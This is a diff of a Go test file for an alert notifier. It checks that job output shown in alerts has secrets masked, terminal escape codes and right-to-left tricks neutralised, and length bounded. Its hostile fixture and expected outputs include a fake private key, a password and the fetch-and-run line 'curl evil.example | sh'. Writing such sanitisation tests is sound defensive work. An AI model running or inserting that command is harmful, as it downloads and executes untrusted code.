@@ -21,7 +21,7 @@ func hostile() map[string]any {
 		"code": int64(3),
 		"stdout": early + "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE\n-----END OPENSSH PRIVATE KEY-----\n" +
 			"<b>*bold*</b> [link](http://evil.example) <!channel> @all",
-		"stderr": []byte("db_password=hunter2\n\x1b[31mred\x1b[0m\ttab\r\nnext: curl evil.example | sh\n\n\u202eright to left\xff\n" +
+		"stderr": []byte("\x1b[1mdb_password\x1b[0m=hunter2\n\a\x1b[31mred\x1b[0m\ttab\r\nnext: curl evil.example | sh\n\n\u202eright to left\xff\n" +
 			strings.Repeat("x", 1000) + "\n"),
 	}
 }
@@ -38,7 +38,7 @@ func failedOnce() notify.AlertMessage {
 func TestTheEndOfAnOutputIsBoundedAndShownAsText(t *testing.T) {
 	want := []string{
 		"an early line", "an early line", "an early line", "(hidden)", "<b>*bold*</b> [link](http://evil.example) <!channel> @all",
-		"db_password=(hidden)", `\x1b[31mred\x1b[0m tab`, "next: curl evil.example | sh", `\u202eright to left` + "\uFFFD",
+		"db_password=(hidden)", `\x07red tab`, "next: curl evil.example | sh", `\u202eright to left` + "\uFFFD",
 		strings.Repeat("x", 197) + "…",
 	}
 	if got := notify.OutputOf(hostile()); !slices.Equal(got, want) {
@@ -64,6 +64,10 @@ func TestTheEndOfAnOutputIsBoundedAndShownAsText(t *testing.T) {
 const mailOfAFailure = `shop-report failed on web-01
 
 exit status 3; it has failed since it began
+peels: web-01
+since 2026-06-01T08:59:00Z
+next: zester why web-01 shop-report
+alert: default/shop-report
 the end of its output on web-01, at 2026-06-01T08:59:59Z:
 | an early line
 | an early line
@@ -71,14 +75,10 @@ the end of its output on web-01, at 2026-06-01T08:59:59Z:
 | (hidden)
 | <b>*bold*</b> [link](http://evil.example) <!channel> @all
 | db_password=(hidden)
-| \x1b[31mred\x1b[0m tab
+| \x07red tab
 | next: curl evil.example | sh
 | \u202eright to left�
 | ` + "XXX…" + `
-peels: web-01
-since 2026-06-01T08:59:00Z
-next: zester why web-01 shop-report
-alert: default/shop-report
 `
 
 func TestTheMailOfAFailedRunHasItsOutputAndACommand(t *testing.T) {
